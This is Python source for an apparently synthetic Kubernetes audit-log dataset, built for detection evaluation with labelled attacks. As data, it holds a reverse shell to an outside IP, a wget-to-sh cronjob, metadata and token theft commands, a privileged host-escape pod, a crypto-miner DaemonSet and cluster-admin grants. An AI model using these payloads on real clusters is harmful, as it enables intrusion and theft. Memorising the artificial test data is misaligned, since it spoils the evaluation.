"""The audit log of a Kubernetes cluster with shops and pipelines in it.

Daily work: controllers, nodes, delivery, monitoring, health checks, developers and administrators (who open shells and read secrets),
releases. Attacks: probes without a name, a pod's token that lists all it may and may not, secrets read, commands in other pods, a pod
with the node's file system, rights given away, the token used from outside, detectors deleted. It is not training material: it was
written by a hand that did not know the training scenarios, to see what the model makes of a site that nobody tuned it for, and what is
learned from can no longer tell that.
"""
from __future__ import annotations

import hashlib
import uuid
from typing import Any, Optional

from .site import Site, epoch, iso

START = epoch(2023, 11, 20)
DAYS = 2
NAMESPACES = ["kube-system", "default", "payments", "frontend", "monitoring", "argocd", "cert-manager", "ingress-nginx", "data"]
ALLOWED = "RBAC: allowed by "


def service_account(namespace, space):
    return (f"system:serviceaccount:{namespace}:{space}", ["system:serviceaccounts", "system:serviceaccounts:" + namespace,
        "system:authenticated"])


SECRETS = {"payments": ["payments-db", "stripe-api-key", "payments-tls", "default-token-x7k2p"],
           "frontend": ["web-session-key", "frontend-tls"], "monitoring": ["grafana", "alertmanager-config", "grafana-smtp"],
           "argocd": ["argocd-secret", "repo-infra", "argocd-initial-admin-secret"], "kube-system": ["bootstrap-token-4fj2ab",
    "sh.helm.release.v1.aws-ebs-csi.v4"], "data": ["airflow-fernet-key", "airflow-metadata"],
           "cert-manager": ["cert-manager-webhook-ca", "letsencrypt-prod"], "default": ["default-token-9ks2v"],
           "ingress-nginx": ["ingress-nginx-admission"]}
CONTROLLERS = [("system:kube-controller-manager", ["system:authenticated"],
                "kube-controller-manager/v1.27.7 (linux/amd64) kubernetes/4b9e28f/leader-election"),
               ("system:kube-scheduler", ["system:authenticated"],
                "kube-scheduler/v1.27.7 (linux/amd64) kubernetes/4b9e28f/leader-election"),
               ("system:serviceaccount:kube-system:deployment-controller",
                ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"],
                "kube-controller-manager/v1.27.7 (linux/amd64) kubernetes/4b9e28f/system:serviceaccount:kube-system:deployment-controller"),
               ("system:serviceaccount:kube-system:generic-garbage-collector",
                ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"],
                "kube-controller-manager/v1.27.7 (linux/amd64) kubernetes/4b9e28f/system:serviceaccount:kube-system:generic-garbage-collector"),
               ("system:apiserver", ["system:masters"], "kube-apiserver/v1.27.7 (linux/amd64) kubernetes/4b9e28f")]
CLIENTS = ["kubectl/v1.28.2 (darwin/arm64) kubernetes/89a4ea3", "kubectl/v1.27.4 (linux/amd64) kubernetes/fa3d799",
           "kubectl/v1.26.3 (windows/amd64) kubernetes/9e64410", "k9s/v0.27.4 (darwin/arm64) kubernetes/$Format",
           "Lens/2023.10.181418 (darwin; arm64)", "helm/3.13.1"]
KUBECTL = "kubectl/v1.24.0 (linux/amd64) kubernetes/4ce5a89"
CURL = "curl/7.88.1"


class KubernetesAudit(Site):
    """Audit log of a cluster."""

    name = "kubernetes_audit"
    host = "kube-apiserver-ip-10-0-3-12"
    sourcetype = "kube:apiserver:audit"
    seed = 1616

    def build(self) -> None:
        self.prepare()
        self.daily()
        self.discovery()
        self.secrets()
        self.other_pods()
        self.escalation()
        self.from_outside()

    def event(self, at: float, user: str, groups, verb, resource, namespace=None, name: Optional[str] = None, subresource=None,
              code: int = 200, address: str = "10.0.3.12", agent: str = "", api: str = "v1", api_group: str = "", label: int = 0,
              group: Optional[str] = None, technique: Optional[str] = None, decision: str = "allow", reason: str = "", body=None,
              stage: str = "ResponseComplete", uri=None, level: str = "Metadata", extra=None, query: str = "") -> None:
        """One record of the audit log."""
        if resource in ("nodes", "namespaces", "clusterroles", "clusterrolebindings", "persistentvolumes", "customresourcedefinitions",
                        "eniconfigs"):
            namespace = None
        if verb in ("list", "watch", "deletecollection"):
            name = None
        if verb == "get" and resource and not name and (uri is None):
            verb = "list"
        if verb == "watch":
            query = (f"?allowWatchBookmarks=true&resourceVersion={self.rng.randint(80000000, 81000000)}&timeout="
                     f"{self.rng.randint(5, 9)}m{self.rng.randint(0, 59)}s&timeoutSeconds={self.rng.randint(300, 590)}&watch=true")
        if not reason and code != 403 and ("node:" not in user):
            p_ = user.split(":")
            reason = (f"RBAC: allowed by ClusterRoleBinding \"{p_[3]}\" of ClusterRole \"{p_[3]}\" to ServiceAccount \"{p_[3]}/{p_[2]}"
                      "\"" if user.startswith("system:serviceaccount")
                      else 'RBAC: allowed by ClusterRoleBinding "{}" of ClusterRole "{}" to Group "{}"'.format(*((groups[0].split(":")[-1],
                "cluster-admin" if "platform" in groups[0] else "edit", groups[0]) if "oidc" in groups[0]
                else ("system:basic-user", "system:basic-user", "system:authenticated"))))
        if uri is None:
            uri = ("/api/" + api if not api_group else f"/apis/{api_group}/{api}") + ("/namespaces/" + namespace if namespace
                and resource != "namespaces" else "") + "/" + resource + ("/" + name if name and verb != "create"
                or (subresource and name) else "") + ("/" + subresource if subresource else "") + query
        entry = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level if body is None else "Request",
                 "auditID": self.uuid(), "stage": stage, "requestURI": uri, "verb": verb, "user": {"username": user, "groups": groups},
                 "sourceIPs": [address], "userAgent": agent}
        if user.startswith("system:serviceaccount"):
            entry["user"]["uid"] = str(uuid.UUID(hashlib.md5(user.encode(), usedforsecurity=False).hexdigest()))
        if extra:
            entry["user"]["extra"] = extra
        if resource:
            o = {"resource": resource}
            if namespace:
                o["namespace"] = namespace
            if name:
                o["name"] = name
            if api_group:
                o["apiGroup"] = api_group
            o["apiVersion"] = api
            if subresource:
                o["subresource"] = subresource
            entry["objectRef"] = o
        status = {"metadata": {}, "code": code}
        if code >= 400:
            status.update(status="Failure",
                          message={403: '{} "{}" is forbidden: User "{}" cannot {} resource "{}" in API group "{}"{}'.format(resource + ("."
                + api_group if api_group else ""), name or "", user, verb, resource, api_group,
                f" in the namespace \"{namespace}\"" if namespace else " at the cluster scope"),
                                   404: f"{resource} \"{name}\" not found", 409: f"Operation cannot be fulfilled on {resource} \"{name}"
                                   "\": the object has been modified; please apply your changes to the latest version and try again",
                                   401: "Unauthorized"}.get(code, ""), reason={403: "Forbidden", 404: "NotFound", 409: "Conflict",
                401: "Unauthorized"}.get(code, ""))
        entry["responseStatus"] = status
        if body:
            entry["requestObject"] = body
        entry["requestReceivedTimestamp"] = iso(at, 6)
        entry["stageTimestamp"] = iso(at + self.rng.random() * 0.02, 6)
        entry["annotations"] = {"authorization.k8s.io/decision": "allow" if code != 403 else "forbid",
                                "authorization.k8s.io/reason": reason if code != 403 else ""}
        self.add(at, entry, label, group, technique)

    def step(self, *a, group="x", technique=None, pause=12, **more: Any) -> None:
        self.at += self.rng.expovariate(1 / pause)
        self.event(self.at, *a, label=1, group=group, technique=technique, **more)

    def prepare(self) -> None:
        """Who and what is there."""
        self.nodes = [f"ip-10-0-{self.rng.randint(3, 5)}-{self.rng.randint(4, 250)}.eu-west-1.compute.internal" for _ in range(9)]
        self.pods = {space: [f"{pause}-{self.hex(10)}-{self.token(5).lower()}" for pause in ds for _ in range(3)] for space,
                     ds in {"payments": ["payments-api", "ledger-worker", "stripe-webhook"], "frontend": ["web", "bff", "image-proxy"],
                            "kube-system": ["coredns", "aws-node", "ebs-csi-controller", "cluster-autoscaler", "metrics-server"],
                            "monitoring": ["prometheus-server", "grafana", "loki", "alertmanager"],
                            "argocd": ["argocd-server", "argocd-repo-server"], "data": ["airflow-scheduler", "spark-operator"],
                            "default": ["debug-tools"], "cert-manager": ["cert-manager", "cert-manager-cainjector"],
                            "ingress-nginx": ["ingress-nginx-controller"]}.items()}
        self.people = [(account + "@acme.dev", self.address()) for account in ("marta", "sven", "olivia", "deepak", "tom", "chiara")]

    def daily(self) -> None:
        """Daily work, of all kinds."""
        for _ in range(1750):
            at = self.moment(START, DAYS) if self.rng.random() < 0.4 else START + self.rng.random() * DAYS * 86400
            draw = self.rng.randrange(100)
            space = self.choice(NAMESPACES)
            pod = self.choice(self.pods[space])
            node = self.choice(self.nodes)
            if draw < 36:
                self.control_plane(at, draw, space, pod, node)
            elif draw < 67:
                self.cluster_services(at, draw, space, pod)
            elif draw < 90:
                self.at_work(at, space, pod)
            else:
                self.release(at, space)

    def control_plane(self, at: float, draw: int, space: str, pod: str, node: str) -> None:
        """Controllers and nodes."""
        if draw < 12:
            account, group_names, agent = self.choice(CONTROLLERS[:2])
            self.event(at, account, group_names, self.choice(["get", "update"]), "leases", "kube-system",
                       "kube-controller-manager" if "controller" in account else "kube-scheduler", address="10.0.3.12", agent=agent,
                       api="v1", api_group="coordination.k8s.io",
                       reason=ALLOWED + f"ClusterRoleBinding \"{account}\" of ClusterRole \"{account}\" to User \"{account}\"")
        elif draw < 26:
            which = self.rng.randrange(7)
            account = "system:node:" + node
            groups_of = ["system:nodes", "system:bootstrappers", "system:authenticated"]
            agent = "kubelet/v1.27.6 (linux/amd64) kubernetes/f774f7c"
            address = ".".join(node.split(".")[0].split("-")[1:])
            if which < 2:
                self.event(at, account, groups_of, "update", "leases", "kube-node-lease", node, address=address, agent=agent,
                           api_group="coordination.k8s.io")
            elif which < 4:
                self.event(at, account, groups_of, "patch", *self.choice([("nodes", None, node), ("pods", space, pod)]), "status",
                           address=address, agent=agent, code=self.weighted([(200, 30), (409, 1), (404, 1)]))
            elif which == 4:
                self.event(at, account, groups_of, "create", "serviceaccounts", space, "default", "token", 201, address, agent)
            elif which == 5:
                self.event(at, account, groups_of, self.choice(["get", "watch"]), self.choice(["secrets", "configmaps"]), space,
                           self.choice(SECRETS[space]), None, 200, address, agent, query="" if self.rng.random() < 0.5 else "")
            else:
                self.event(at, account, groups_of, "create", "events", space, pod + ".179a" + self.hex(12), None, 201, address, agent)
        else:
            account, group_names, agent = self.choice(CONTROLLERS[2:])
            resource = self.choice([("deployments", "apps"), ("replicasets", "apps"), ("endpointslices", "discovery.k8s.io"),
                                    ("pods", ""), ("jobs", "batch"), ("horizontalpodautoscalers", "autoscaling"),
                                    ("serviceaccounts", ""), ("resourcequotas", ""), ("secrets", "")])
            self.event(at, account, group_names, self.choice(["get", "list", "watch", "update", "patch", "delete"]), resource[0], space,
                       pod.rsplit("-", 2)[0], self.choice([None, "status"]) if resource[0] == "deployments" else None,
                       self.weighted([(200, 20), (409, 2), (404, 1)]), "10.0.3.12", agent, api_group=resource[1])

    def cluster_services(self, at: float, draw: int, space: str, pod: str) -> None:
        """Delivery, monitoring, certificates, health checks."""
        if draw < 44:
            account, group_names = service_account("argocd", "argocd-application-controller")
            resource = self.choice([("applications", "argoproj.io", "v1alpha1"), ("deployments", "apps", "v1"),
                                    ("customresourcedefinitions", "apiextensions.k8s.io", "v1"),
                                    ("clusterroles", "rbac.authorization.k8s.io", "v1"), ("secrets", "", "v1"),
                                    ("configmaps", "", "v1"), ("ingresses", "networking.k8s.io", "v1"),
                                    ("rolebindings", "rbac.authorization.k8s.io", "v1")])
            self.event(at, account, group_names, self.choice(["get", "list", "watch", "patch"]), resource[0],
                       self.choice([space, None]), self.choice([None, pod.rsplit("-", 2)[0]]),
                       address=f"10.0.4.{self.rng.randint(5, 200)}",
                       agent="argocd-application-controller/v0.0.0 (linux/amd64) kubernetes/$Format", api=resource[2],
                       api_group=resource[1], query="?limit=500" if self.rng.random() < 0.3 else "",
                       reason=ALLOWED + 'ClusterRoleBinding "argocd-application-controller" of ClusterRole "argocd-application-controller" to ServiceAccount "argocd-application-controller/argocd"')
        elif draw < 58:
            account, group_names, agent, resource, group_of = self.choice([(*service_account("monitoring", "prometheus-server"),
                "Prometheus/2.47.0", self.choice(["pods", "nodes", "services", "endpoints"]), ""),
                (*service_account("cert-manager", "cert-manager"), "cert-manager-controller/v1.13.1 (linux/amd64) cert-manager/cdcb1d4",
                 self.choice(["certificates", "secrets", "challenges"]), "cert-manager.io"),
                (*service_account("ingress-nginx", "ingress-nginx"),
                 "nginx-ingress-controller/v1.9.4 (linux/amd64) ingress-nginx/846d251",
                 self.choice(["configmaps", "leases", "ingresses", "secrets"]), ""),
                        (*service_account("kube-system", "cluster-autoscaler"), "cluster-autoscaler/v1.27.3",
                         self.choice(["nodes", "pods", "replicasets"]), ""), (*service_account("kube-system", "metrics-server"),
                "metrics-server/v0.6.4 (linux/amd64)", "nodes", ""), (*service_account("data", "airflow-worker"),
                "OpenAPI-Generator/28.1.0/python", "pods", ""), (*service_account("kube-system", "aws-node"),
                "aws-node/v0.0.0 (linux/amd64) kubernetes/$Format", "eniconfigs", "crd.k8s.amazonaws.com"),
                        (*service_account("monitoring", "grafana"), "python-requests/2.31.0", self.choice(["secrets", "configmaps"]),
                         "")])
            self.event(at, account, group_names,
                       self.weighted([("get", 3), ("list", 4), ("watch", 5), ("create", 0.5 if "airflow" in account else 0),
                                      ("delete", 0.5 if "airflow" in account else 0)]), resource, self.choice([None, space]),
                       None if resource != "secrets" else self.choice(SECRETS[space]),
                       address=f"10.0.{self.rng.randint(3, 5)}.{self.rng.randint(5, 250)}", agent=agent, api_group=group_of,
                       code=self.weighted([(200, 40), (403, 0.6)]))
        elif draw < 64:
            self.event(at, "system:anonymous", ["system:unauthenticated"], "get", None, address=self.choice(["10.0.3.1", "10.0.4.1"]),
                       agent=self.choice(["ELB-HealthChecker/2.0", "kube-probe/1.27+"]),
                       uri=self.choice(["/readyz", "/livez?verbose", "/healthz"]),
                       reason=ALLOWED + 'ClusterRoleBinding "system:public-info-viewer" of ClusterRole "system:public-info-viewer" to Group "system:unauthenticated"')
        else:
            account, groups_of = self.choice([service_account("kube-system", "generic-garbage-collector"),
                                              ("system:kube-controller-manager", ["system:authenticated"])])
            self.event(at, account, groups_of, "get", None, address="10.0.3.12", agent=CONTROLLERS[0][2],
                       uri=self.choice(["/apis", "/api/v1?timeout=32s", "/openapi/v2?timeout=32s",
                                        "/apis/metrics.k8s.io/v1beta1?timeout=32s", "/version"]))

    def at_work(self, at: float, space: str, pod: str) -> None:
        """Developers and administrators at work."""
        account, address = self.choice(self.people)
        agent = self.choice(CLIENTS)
        is_admin = account.startswith(("marta", "sven"))
        groups_of = ["oidc:platform" if is_admin else "oidc:developers", "system:authenticated"]
        which = self.rng.randrange(20)
        space = self.choice(["payments", "frontend", "data", "monitoring", "default"])
        pod = self.choice(self.pods[space])
        if which < 6:
            self.event(at, account, groups_of, "list", self.choice(["pods", "services", "events", "deployments", "nodes", "namespaces",
                "ingresses"]), self.choice([space, None]), address=address, agent=agent, query="?limit=500")
        elif which < 9:
            self.event(at, account, groups_of, "get", "pods", space, pod, "log", address=address, agent=agent,
                       query=f"?container={pod.rsplit('-', 2)[0]}&follow=true&tailLines=100")
        elif which < 11:
            self.event(at, account, groups_of, "get", "pods", space, pod, address=address, agent=agent,
                       code=self.weighted([(200, 9), (404, 2)]))
        elif which < 13:
            self.event(at, account, groups_of, "create", "pods", space, pod, "exec", 101, address, agent, query="?command="
                       + self.choice(["sh", "bash", "%2Fbin%2Fsh", "printenv", "rails&command=console", "psql&command=-U&command=app",
                                      "ls&command=-la"]) + f"&container={pod.rsplit('-', 2)[0]}&stdin=true&stdout=true&tty=true")
        elif which == 13:
            self.event(at, account, groups_of, "create", "pods", space, pod, "portforward", 101, address, agent)
        elif which < 16:
            self.event(at, account, groups_of, "patch", "deployments", space, pod.rsplit("-", 2)[0], self.choice([None, "scale"]),
                       address=address, agent=agent, api_group="apps", query="?fieldManager=kubectl-rollout")
        elif which == 16:
            self.event(at, account, groups_of, self.choice(["get", "list"]), "secrets", space, self.choice(SECRETS[space]),
                       address=address, agent=agent, code=200 if is_admin else 403)
        elif which == 17:
            self.event(at, account, groups_of, "create", "selfsubjectaccessreviews", None, None, None, 201, address, agent,
                       api_group="authorization.k8s.io")
        elif which == 18:
            self.event(at, account, groups_of, "delete", "pods", space, pod, address=address, agent=agent)
        else:
            self.event(at, account, groups_of, self.choice(["create", "patch"]), self.choice(["rolebindings", "roles"]), space, "dev-"
                       + self.hex(4), None, 201 if is_admin else 403, address, agent, api_group="rbac.authorization.k8s.io")

    def release(self, at: float, space: str) -> None:
        """A pipeline releases."""
        account, groups_of = ("system:serviceaccount:gitlab:deployer", ["system:serviceaccounts", "system:serviceaccounts:gitlab",
            "system:authenticated"])
        resource, group_of = self.choice([("deployments", "apps"), ("secrets", ""), ("configmaps", ""), ("jobs", "batch"),
                                          ("services", ""), ("ingresses", "networking.k8s.io")])
        object_name = self.choice([f"sh.helm.release.v1.payments-api.v{self.rng.randint(20, 90)}", "payments-api", "web", "bff",
                                   f"migrate-{self.rng.randint(100, 999)}"])
        self.event(at, account, groups_of, self.choice(["get", "create", "patch", "list"]), resource, space, object_name, None,
                   self.weighted([(200, 9), (201, 3), (404, 1), (409, 1)]), "10.0.5.77",
                   self.choice(["Helm/3.12.3", "kubectl/v1.27.4 (linux/amd64) kubernetes/fa3d799"]), api_group=group_of)

    def discovery(self) -> None:
        """Probes without a name; a pod's token lists all it may and may not."""
        self.account, self.groups_of = service_account("frontend", "bff")
        self.pod_address = "10.0.4.118"
        self.at = START + 86400 + 14 * 3600
        for i in range(9):
            self.step("system:anonymous", ["system:unauthenticated"], "list" if i % 2 else "get",
                      self.choice(["secrets", "pods", "nodes", "namespaces"]), self.choice([None, "kube-system", "default"]), code=403,
                      address="185.156.73.54",
                      agent=self.choice(["Go-http-client/1.1", "python-requests/2.31.0", "kubectl/v1.24.0 (linux/amd64)", "zgrab/0.x"]),
                      group="anonymous_probe", technique="T1595")
        for path in ["/api", "/apis", "/version", "/api/v1"]:
            self.step(self.account, self.groups_of, "get", None, address=self.pod_address, agent=CURL, uri=path,
                      group="token_discovery", technique="T1613", code=200)
        self.step(self.account, self.groups_of, "create", "selfsubjectrulesreviews", None, None, None, 201, self.pod_address,
                  KUBECTL, api_group="authorization.k8s.io", group="token_discovery", technique="T1069")
        for verb, resource, group_of in [(verb_name, which, of_group) for which, of_group in [("secrets", ""), ("pods", ""),
            ("nodes", ""), ("namespaces", ""), ("configmaps", ""), ("serviceaccounts", ""),
            ("clusterrolebindings", "rbac.authorization.k8s.io"), ("roles", "rbac.authorization.k8s.io"), ("daemonsets", "apps"),
              ("deployments", "apps"), ("networkpolicies", "networking.k8s.io"), ("persistentvolumes", ""), ("jobs", "batch"),
              ("cronjobs", "batch")] for verb_name in ("list",)]:
            for space in [None, "frontend", "kube-system"]:
                self.step(self.account, self.groups_of, verb, resource, space, None, None, 200 if space == "frontend"
                          and resource in ("pods", "secrets", "configmaps", "deployments") else 403, self.pod_address,
                          self.choice([KUBECTL, CURL]), api_group=group_of, group="token_discovery", technique="T1613", pause=4,
                          query="?limit=500")

    def secrets(self) -> None:
        """Secrets are read, with a better token."""
        for secret in SECRETS["frontend"] + ["argocd-manager-token-z8x1k"]:
            self.step(self.account, self.groups_of, "get", "secrets", "frontend", secret, None, 200, self.pod_address, KUBECTL,
                      group="secret_theft", technique="T1552.007")
        self.second_user, self.second_groups = service_account("frontend", "argocd-manager")
        for space in NAMESPACES:
            self.step(self.second_user, self.second_groups, "list", "secrets", space, None, None, 200, self.pod_address, KUBECTL,
                      group="secret_theft", technique="T1552.007", pause=3, query="?limit=500")
        for space in ["payments", "argocd", "data"]:
            for secret in SECRETS[space]:
                self.step(self.second_user, self.second_groups, "get", "secrets", space, secret, None, 200, self.pod_address,
                          KUBECTL, group="secret_theft", technique="T1552.007", pause=3)

    def other_pods(self) -> None:
        """Commands in other pods."""
        for space, pod, command in [("payments", self.pods["payments"][0], "env"), ("payments", self.pods["payments"][0],
            "cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken"), ("payments", self.pods["payments"][4],
            "sh&command=-c&command=curl+-s+http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F"),
                                    ("kube-system", self.pods["kube-system"][3], "sh"), ("monitoring", self.pods["monitoring"][4],
            "bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F185.156.73.54%2F443+0%3E%261"),
                                    ("data", self.pods["data"][0], "sh")] * 2:
            self.step(self.second_user, self.second_groups, "create", "pods", space, pod, "exec", 101, self.pod_address, KUBECTL,
                      group="exec_lateral", technique="T1609", pause=60, query=f"?command={command}&stdin=true&stdout=true")

    def escalation(self) -> None:
        """A pod with the node's file system, rights given away."""
        for resource, group_of, space, object_name, body, technique in [("pods", "", "kube-system", "node-debug-x1",
            {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "node-debug-x1"}, "spec": {"hostPID": True, "hostNetwork": True,
            "containers": [{"name": "c", "image": "alpine", "command": ["nsenter", "--target", "1", "--mount", "--uts", "--ipc",
            "--net", "--pid", "--", "bash"], "securityContext": {"privileged": True},
                            "volumeMounts": [{"name": "h", "mountPath": "/host"}]}],
                                      "volumes": [{"name": "h", "hostPath": {"path": "/"}}]}}, "T1611"),
            ("daemonsets", "apps", "kube-system", "kube-proxy-metrics",
             {"kind": "DaemonSet",
              "spec": {"template": {"spec": {"hostNetwork": True,
                                             "containers": [{"name": "m", "image": "docker.io/kannix/monero-miner:latest",
            "args": ["-o", "pool.hashvault.pro:443"]}]}}}}, "T1496"), ("clusterrolebindings", "rbac.authorization.k8s.io", None,
            "system:controller:sync", {"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
                                       "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "default"}]},
            "T1098.006"), ("serviceaccounts", "", "kube-system", "metrics-agent", {"kind": "ServiceAccount"}, "T1136"),
             ("cronjobs", "batch", "default", "log-cleanup",
              {"spec": {"schedule": "*/10 * * * *",
                        "jobTemplate": {"spec": {"template": {"spec": {"containers": [{"image": "busybox",
            "command": ["sh", "-c", "wget -qO- http://185.156.73.54/k.sh|sh"]}]}}}}}}, "T1053.007"),
             ("clusterrolebindings", "rbac.authorization.k8s.io", None, "anon-admin",
              {"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}, "subjects": [{"kind": "User", "name": "system:anonymous"}]},
              "T1098.006"), ("mutatingwebhookconfigurations", "admissionregistration.k8s.io", None, "pod-inject",
                             {"webhooks": [{"name": "x.y.z", "clientConfig": {"url": "https://185.156.73.54/m"}}]}, "T1546")]:
            self.step(self.second_user, self.second_groups, "create", resource, space, object_name, None, 201, self.pod_address,
                      KUBECTL, api_group=group_of, body=body, group="privilege_escalation", technique=technique, pause=90,
                      query="?fieldManager=kubectl-create")
        self.step(self.second_user, self.second_groups, "create", "serviceaccounts", "kube-system", "metrics-agent", "token", 201,
                  self.pod_address, KUBECTL, group="privilege_escalation", technique="T1528")

    def from_outside(self) -> None:
        """The token is used from outside; detectors are deleted."""
        third_user, third_groups = service_account("kube-system", "metrics-agent")
        for _ in range(14):
            self.step(third_user, third_groups, self.choice(["list", "get"]), self.choice(["secrets", "pods", "nodes"]),
                      self.choice(["payments", "data", None]), None, None, 200, "185.156.73.54", KUBECTL, group="external_token_use",
                      technique="T1078.004", pause=300, query="?limit=500")
        for space, object_name in [("kube-system", "falco"), ("monitoring", "loki-canary"), ("kube-system", "aws-guardduty-agent")]:
            self.step(third_user, third_groups, "delete", "daemonsets", space, object_name, None, 200, "185.156.73.54", KUBECTL,
                      api_group="apps", group="defense_evasion", technique="T1562.001")
        self.step(third_user, third_groups, "deletecollection", "events", "kube-system", None, None, 200, "185.156.73.54", KUBECTL,
                  group="defense_evasion", technique="T1070")
        self.step(third_user, third_groups, "get", "nodes", None, self.nodes[0], "proxy", 200, "185.156.73.54", KUBECTL,
                  uri=f"/api/v1/nodes/{self.nodes[0]}/proxy/run/kube-system/{self.pods['kube-system'][3]}/aws-node?cmd=id",
                  group="exec_lateral", technique="T1609")
